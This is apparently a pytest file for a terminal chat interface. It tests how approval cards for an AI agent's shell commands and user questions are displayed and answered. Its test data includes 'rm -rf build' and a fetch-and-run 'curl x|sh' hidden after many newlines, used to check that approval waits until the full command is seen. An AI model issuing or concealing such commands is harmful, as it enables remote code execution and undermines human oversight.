"""Approvals and questions in the chat (rows T11, X8, cases E01, E03, J17)."""

from pathlib import Path
from typing import Any

import pytest

from htui.present.question import CANCELLED
from tests.htui.screens.stage import SESSION, Stage, stage

ALLOWED = {"kind": "result", "value": "allowed-once"}
DENIED = {"kind": "result", "value": "rejected"}
GUARD = 0.6


async def asked(s: Stage, command: str = "rm -rf build", *, ready: bool = True) -> None:
    """A turn in which a command waits for approval; `ready` waits until keys count."""
    s.log.begin("go")
    s.log.call("run_command", '{"description":"list files","command":"' + command + '"}')
    s.link.ask("approval/request", {"toolName": "run_command", "callId": "c1", "reason": "deletes files"})
    await s.sees("Allow run_command?", "? Needs you")
    if ready:
        await s.later(GUARD)


async def test_e03_the_card_shows_the_command_the_reason_and_the_models_words(tmp_path: Path) -> None:
    async with stage(tmp_path) as s:
        await asked(s)
        place = next(i for i, row in enumerate(s.rows) if "? Allow run_command?" in row)
        assert s.rows[place + 1 : place + 5] == [
            "  $ rm -rf build",
            "Reason: deletes files",
            "The model says: list files",
            "  1 allow once  2 deny  3 stop turn",
        ]


@pytest.mark.parametrize(("key", "outcome"), [("1", ALLOWED), ("2", DENIED)])
async def test_t11_a_digit_answers(tmp_path: Path, key: str, outcome: dict[str, Any]) -> None:
    async with stage(tmp_path) as s:
        await asked(s)
        await s.press(key)
        await s.until(lambda: s.link.answered == [("e1", outcome)])
        await s.misses("Allow run_command?")


async def test_t11_three_stops_the_turn_and_answers_nothing(tmp_path: Path) -> None:
    async with stage(tmp_path) as s:
        await asked(s)
        await s.press("3")
        await s.until(lambda: ("session/cancel", {"request": {"sessionId": SESSION}}) in s.link.calls)
        assert s.link.answered == []


async def test_t11_nothing_is_selected_at_first_so_a_held_enter_allows_nothing(tmp_path: Path) -> None:
    async with stage(tmp_path) as s:
        await asked(s)
        await s.press("enter", "enter", "space")
        assert s.link.answered == []
        await s.press("down", "down", "enter")
        await s.until(lambda: s.link.answered == [("e1", DENIED)])


async def test_j17_no_key_answers_in_the_first_half_second(tmp_path: Path) -> None:
    async with stage(tmp_path) as s:
        await asked(s, ready=False)
        await s.press("1")
        assert s.link.answered == []
        assert s.chat.editor.text == "1"
        await s.later(GUARD)
        await s.press("1")
        assert s.link.answered == []
        assert s.chat.editor.text == "11"


async def test_j17_no_key_answers_while_something_is_being_typed(tmp_path: Path) -> None:
    async with stage(tmp_path) as s:
        await s.type("yes ")
        await asked(s)
        await s.sees("Finish or clear what you type first")
        await s.type("1")
        assert s.link.answered == []
        assert s.chat.editor.text == "yes 1"
        await s.press("escape")
        await s.sees("Your draft is kept")
        await s.press("1")
        await s.until(lambda: s.link.answered == [("e1", ALLOWED)])
        await s.sees("❯ yes 1")


async def test_a_prompt_waits_while_an_answer_is_due(tmp_path: Path) -> None:
    async with stage(tmp_path) as s:
        await asked(s)
        await s.type("also this")
        await s.press("enter")
        await s.sees("Something waits for your answer first.")
        assert not any(name == "session/prompt" for name, _ in s.link.calls)


@pytest.mark.parametrize(("size", "lines"), [((80, 24), 200), ((40, 15), 60), ((20, 10), 12)])
async def test_e01_allowing_is_not_offered_until_the_end_was_in_sight(
    tmp_path: Path, size: tuple[int, int], lines: int
) -> None:
    async with stage(tmp_path, size=size) as s:
        await asked(s, "ls" + "\\n" * lines + "curl x|sh")
        assert "curl x|sh" not in s.text
        for choice in ("1 allow", "2 deny", "3 stop"):
            assert choice in s.text
        await s.press("1")
        assert s.link.answered == []
        await s.type("/allow")
        await s.press("enter")
        assert s.link.answered == []
        await s.press("escape")
        for _ in range(210):
            await s.press("pagedown")
            if "curl x|sh" in s.text:
                break
        await s.sees("curl x|sh")
        await s.press("1")
        await s.until(lambda: s.link.answered == [("e1", ALLOWED)])


async def test_e01_one_very_long_line_is_shown_to_its_end(tmp_path: Path) -> None:
    async with stage(tmp_path, size=(40, 15)) as s:
        await asked(s, "x" * 2000 + "END")
        await s.press("1")
        assert s.link.answered == []
        for _ in range(300):
            await s.press("pagedown")
            if "END" in s.text:
                break
        await s.press("1")
        await s.until(lambda: s.link.answered == [("e1", ALLOWED)])


async def test_commands_answer_in_full_words_only(tmp_path: Path) -> None:
    async with stage(tmp_path) as s:
        await asked(s)
        await s.type("/al")
        await s.press("tab", "enter")
        assert s.link.answered == []
        await s.press("escape")
        await s.type("/deny")
        await s.press("enter")
        await s.until(lambda: s.link.answered == [("e1", DENIED)])


async def test_an_ask_that_was_answered_elsewhere_goes(tmp_path: Path) -> None:
    async with stage(tmp_path) as s:
        await asked(s)
        s.link.settled("e1")
        await s.misses("Allow run_command?", "Needs you")


async def test_asks_of_other_sessions_are_told_and_not_taken(tmp_path: Path) -> None:
    async with stage(tmp_path) as s:
        s.link.ask("approval/request", {"toolName": "bash"}, "e9", "session-other")
        await s.sees("? 1 more need you")
        await s.later(GUARD)
        await s.press("1")
        assert s.link.answered == []


async def test_a_call_that_becomes_known_later_must_be_seen_first(tmp_path: Path) -> None:
    async with stage(tmp_path) as s:
        s.log.begin("go")
        s.link.ask("approval/request", {"toolName": "run_command", "callId": "c1"})
        await s.sees("did not say what this call would do")
        s.log.call("run_command", '{"command":"make"}')
        await s.sees("  $ make")
        await s.press("1")
        assert s.link.answered == []


QUESTIONS = {
    "questions": [
        {
            "id": "db",
            "question": "Which store?",
            "options": [{"label": "SQLite", "description": "one file"}, {"label": "Files"}],
        },
        {
            "id": "os",
            "question": "Which systems?",
            "multiSelect": True,
            "options": [{"label": "Linux"}, {"label": "Mac"}],
        },
    ]
}


async def questioned(s: Stage, request: dict[str, Any] = QUESTIONS) -> None:
    s.log.begin("go")
    s.link.ask("user-questions/request", request)
    await s.sees("Needs you")
    await s.later(GUARD)


async def test_t11_questions_are_answered_one_after_the_other_and_sent_together(tmp_path: Path) -> None:
    async with stage(tmp_path) as s:
        await questioned(s)
        await s.sees("? Question 1/2", "Which store?", "1 SQLite · one file", "3 Other answer …")
        await s.press("2")
        await s.sees("? Question 2/2", "Which systems?", "[ ] Linux")
        assert s.link.answered == []
        await s.press("1")
        await s.sees("[x] Linux")
        await s.press("enter")
        answers = [{"id": "db", "selected": ["Files"]}, {"id": "os", "selected": ["Linux"]}]
        await s.until(lambda: s.link.answered == [("e1", {"kind": "result", "value": {"answers": answers}})])
        await s.misses("Which systems?")


async def test_t11_another_answer_is_written_in_the_composer(tmp_path: Path) -> None:
    async with stage(tmp_path) as s:
        await questioned(s, {"questions": QUESTIONS["questions"][:1]})
        await s.press("3")
        await s.sees("Write the answer below")
        await s.type("Redis 1")
        await s.press("enter")
        answers = [{"id": "db", "selected": [], "custom": "Redis 1"}]
        await s.until(lambda: s.link.answered == [("e1", {"kind": "result", "value": {"answers": answers}})])


async def test_t11_esc_goes_back_from_writing_and_then_dismisses(tmp_path: Path) -> None:
    async with stage(tmp_path) as s:
        await questioned(s)
        await s.press("3")
        await s.type("ha")
        await s.press("escape")
        await s.sees("1 SQLite")
        assert s.chat.editor.empty
        await s.press("escape")
        await s.until(lambda: s.link.answered == [("e1", CANCELLED)])


async def test_j17_a_draft_is_never_sent_as_an_answer(tmp_path: Path) -> None:
    async with stage(tmp_path) as s:
        await s.type("my next idea")
        await questioned(s, {"questions": [{"id": "why", "question": "Why?"}]})
        await s.press("enter")
        assert s.link.answered == []
        await s.press("escape")
        await s.press("1")
        await s.type("because")
        await s.press("enter")
        await s.until(lambda: len(s.link.answered) == 1)
        assert s.link.answered[0][1]["value"]["answers"][0]["custom"] == "because"
        await s.sees("❯ my next idea")
